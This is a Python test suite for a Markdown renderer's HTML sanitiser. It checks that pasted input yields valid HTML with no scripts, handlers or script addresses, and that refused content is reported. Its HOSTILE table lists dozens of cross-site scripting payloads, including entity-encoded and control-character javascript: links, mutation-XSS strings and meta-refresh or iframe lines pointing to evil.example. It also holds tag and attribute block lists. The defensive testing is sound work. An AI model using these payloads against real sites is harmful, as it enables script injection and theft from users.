"""Hostile and broken input: no script runs, rendering does not fail, and what is removed is reported."""

import re

import html5lib
import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from laur.markdown.body import render_body
from laur.markdown.links import fill
from laur.markdown.sanitise import clean
from laur.markdown.tree import parse, serialise
from laur.model import Body
from tests.properties import examples

SCRIPT_ADDRESS = re.compile(r"^[\s\x00-\x20]*(javascript|vbscript|data|laur|file|blob)\s*:", re.IGNORECASE)
PLACEHOLDER = re.compile(r'<[^<>]*\s(?:href|src)="laur:')
"""The address of an element: in a text, which may contain one, each ``<`` is a reference; a title may contain one."""
NOT_SHOWN = """script style iframe object embed base meta link form input button svg math template video audio frame
    noscript textarea select marquee title html body head""".split()  # noqa: SIM905 - a list would be thirty lines
ATTRIBUTES = {"style", "srcdoc", "srcset", "formaction", "action", "background", "xlink:href", "target"}


def soup(body: Body) -> BeautifulSoup:
    return BeautifulSoup(body.html, "html5lib")


def assert_harmless(body: Body) -> None:
    """The body is valid HTML5 without scripts, event handlers and addresses that run scripts."""
    html5lib.HTMLParser(strict=True).parseFragment(body.html)
    tree = soup(body).body
    assert tree is not None
    assert not tree.find_all(NOT_SHOWN)
    for element in tree.find_all(True):
        for name, value in element.attrs.items():
            assert not name.startswith("on")
            assert name not in ATTRIBUTES
            if name in {"href", "src", "cite"}:
                filled = re.sub(r"^laur:\d+$", "/there/", str(value))
                assert not SCRIPT_ADDRESS.match(filled), value
    assert len(body.outline.targets) >= len(PLACEHOLDER.findall(body.html))
    assert not PLACEHOLDER.search(fill(body.html, ["/x/"] * len(body.outline.targets)))


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a line": "a <script>alert(1)</script> b",
    "script in capitals and open": "<ScRiPt\nsrc=//evil.example/x.js>",
    "script in two parts": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script in Markdown's HTML": '<div markdown="1">\n\n<script>alert(1)</script>\n\n</div>',
    "handler": '<img src="a.png" onerror="alert(1)">',
    "handler without quotes": "<img src=a.png onerror=alert(1) //>",
    "handler after a slash": "<img/src=a.png/onerror=alert(1)>",
    "handler by attribute list": "![a](a.png){onerror=alert(1) style=color:red}",
    "handler from a title": '![a](a.png "x\\" onerror=\\"alert(1)")',
    "handler from alt": '![a" onerror="alert(1)](a.png)',
    "javascript": "[a](javascript:alert(1))",
    "javascript in mixed case": "[a](JaVaScRiPt:alert(1))",
    "javascript by entities": '<a href="&#106;&#97;vascript&colon;alert(1)">a</a>',
    "javascript with a tab": '<a href="java\tscript:alert(1)">a</a>',
    "javascript with a line feed": '<a href="java&#10;script:alert(1)">a</a>',
    "javascript after spaces": '<a href=" &#1; javascript:alert(1)">a</a>',
    "javascript with a control in it": '<a href="java&#1;script:alert(1)">a</a>',
    "javascript with a noncharacter in it": '<a href="java&#xFDD0;script:alert(1)">a</a>',
    "javascript by reference": "[a][b]\n\n[b]: javascript:alert(1)",
    "javascript as autolink": "<javascript:alert(1)>",
    "javascript in a picture": "![a](javascript:alert(1))",
    "vbscript": "[a](vbscript:x)",
    "data address": "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "data picture": "![a](data:image/svg+xml;base64,PHN2Zz4=)",
    "svg": "<svg onload=alert(1)><script>1</script><a xlink:href='javascript:1'><text>x</text></a></svg>",
    "svg with a foreign object": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "math": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "mutation": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "mutation by noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "style": "<style>body{display:none}</style>",
    "style attribute": '<p style="position:fixed">a</p>',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe with a document": '<iframe srcdoc="<script>1</script>">',
    "object": '<object data="x.swf"><embed src="x.swf"></object>',
    "base": '<base href="https://evil.example/">',
    "meta": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form": '<form action="https://evil.example/"><input name="a"><button formaction="javascript:1">x</button></form>',
    "unclosed tags": "<div><p><b><i>a\n\n<table><tr><td>b",
    "stray ends": "</div></p></td></table></body></html>a",
    "an open tag": '<a href="x',
    "comment": "a <!-- <script>alert(1)</script> --> b <!-- open",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "declarations": "<!DOCTYPE html><?php echo 1 ?><!x",
    "placeholders": '[a](laur:0) [b](LAUR:5) <a href="laur:1">c</a> <img src="laur:2"> src="laur:0" [real](x.md)',
    "placeholder in a title": '[a](x.md "\\" href=\\"laur:0\\"")',
    "controls": "a\x00b\x01c\x02\x03d\x0be\x0cf\x1bg\x7f\x85\x9f&#1;&#0;&#x80;\ufffe\ufdd0\U0001fffe",
    "the library's own marks": "\x02wzxhzdk:0\x03 \x02amp\x03 \x02klzzwxh:0000\x03",
    "lone surrogates": "a\ud800b\udfff",
    "paragraph in a paragraph": "<p><button><p>a</p></button></p><p><object><p>b</p></object></p>",
    "table out of place": "<table><p>a</p><tr><b>x</b><td>y</table>",
    "nested links": '<a href="a.md">a<a href="b.md">b</a></a>',
    "links around a table": '<a href="c.md"><table><tr><td><a href="d.md">d</a></table></a>',
    "formatting across blocks": "<b><p>a</b>b</p><i><h2>c</i>d</h2>",
    "slot and custom elements": "<slot name=x><x-y is=z>a</x-y></slot>",
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_nothing_that_an_author_pastes_can_run_as_a_script(text: str):
    assert_harmless(render_body(text, "pl"))


DEEP = {
    "quotations": "> " * 5000 + "a",
    "lists": "\n".join("    " * depth + "- a" for depth in range(200)),
    "rules": "- " * 3000 + "a",
    "emphasis": "*a " * 1000 + "*" * 1000,
    "stars": "*" * 3000,
    "brackets": "[" * 300 + "a" + "]" * 300,
    "pictures": "![" * 200 + "a" + "](a.png)" * 200,
    "elements": "<div>" * 3000 + "a",
    "inline elements": "<b>" * 3000 + "a",
    "ends": "</div>" * 3000,
    "quotation marks": '"' * 3000,
    "backticks": "`" * 3000 + "a",
    "footnotes in footnotes": "".join(f"[^{n}]: [^{n + 1}]\n" for n in range(200)) + "\n[^0]",
    "fences": "".join("`" * (3 + n % 50) + "a\n" for n in range(5000)),
    "struck out text": "~~a " * 5000,
    "bullet characters": "• a\n\n" * 5000,
    "hyphens of tables": "|" + "-" * 50_000 + "x\n| a",
    "lists in quotations": "\n".join("> " * (n % 40) + "- a" for n in range(500)),
    "table cells": "|a|b|\n|-|-|\n" + "|" * 3000,
}


@pytest.mark.parametrize("text", DEEP.values(), ids=DEEP)
def test_deeply_nested_and_repeated_markup_is_rendered(text: str):
    assert_harmless(render_body(text, "pl"))


@pytest.mark.parametrize("name", ["quotations", "lists", "rules", "elements"])
def test_a_text_nested_too_deep_is_shown_as_written_with_a_fault(name: str):
    body = render_body(DEEP[name] + "\n\n<script>", "pl")
    assert [fault.code for fault in body.outline.faults] == ["body-unreadable"]
    assert "a" in soup(body).text
    assert "<script>" in soup(body).text


def test_the_limit_of_nesting_does_not_depend_on_the_stack_of_the_caller():
    def deeper(steps: int, text: str) -> Body:
        return deeper(steps - 1, text) if steps else render_body(text, "pl")

    for depth in (20, 60, 70, 150):
        for text in ("> " * depth + "a", "> " * depth + "- a"):
            assert deeper(0, text) == deeper(200, text)


@pytest.mark.parametrize(
    ("text", "refused"),
    [
        ('<iframe src="https://example.org/"></iframe> and <IFRAME>', [("html-not-allowed", "iframe")]),
        ("<o:p>Word</o:p>", [("html-not-allowed", "o:p")]),
        ("[a](javascript:alert(1))", [("address-not-allowed", "javascript:alert(1)")]),
        ("[a](ftp://example.org/x)", [("address-not-allowed", "ftp://example.org/x")]),
        (f"![a](data:image/png;base64,{'A' * 5000})", [("address-not-allowed", "data:image/png;base64," + "A" * 58)]),
        ("`<iframe>` and\n\n    <a href='javascript:1'>\n\n<!-- <iframe> -->", []),
        ("[a](../x.md) <b>b</b> <https://example.org> <mailto:a@example.org> 1 < 2", []),
    ],
)  # fmt: skip
def test_refused_elements_and_addresses_are_reported(text: str, refused: list[tuple[str, str]]):
    faults = render_body(text, "pl").outline.faults
    assert [(fault.code, fault.value) for fault in faults] == refused


def test_a_refused_image_leaves_its_alternative_text():
    assert soup(render_body("![Logo klastra](data:image/png;base64,AA)", "pl")).text.strip() == "Logo klastra"


PIECES = [
    "<", ">", "</", "<!--", "-->", "<![CDATA[", "]]>", "<p>", "<b>", "</b>", "<table>", "<td>", "<a href=", "</a>",
    "<script>", "<svg>", "<math>", "<style>", "<img src=x onerror=1>", "<div markdown=1>", "</div>", "<pre>", "<li>",
    "<h1>", "<button>", '"', "'", "&#", "&lt;", "*", "**", "_", "`", "```\n", "# ", "- ", "1. ", "> ", "    ", "\n",
    "\n\n", "|", "|-|-|\n", "[", "](", ")", "![", "[^1]", "[^1]: ", "[a]: ", "*[a]: ", "{#", "{lang=en}", "}", ": ",
    "javascript:", "https://a.pl/", "x.md", "#a", "laur:0", "w ", "Łódź", "\\", "\x02", "\x03",
]  # fmt: skip


@settings(max_examples=examples(400))
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join), st.sampled_from(["pl", "en", "de"]))
def test_no_mixture_of_markup_is_harmful(text: str, lang: str):
    assert_harmless(render_body(text, lang))


@settings(max_examples=examples(150))
@given(st.text(max_size=60))
def test_no_random_text_is_harmful(text: str):
    assert_harmless(render_body(text, "pl"))


@settings(max_examples=examples(150))
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
def test_parsing_and_serialising_sanitised_html_changes_nothing(text: str):
    cleaned = clean(text)
    tree = parse(cleaned) if cleaned is not None else None
    assert tree is None or clean(serialise(tree)) == cleaned
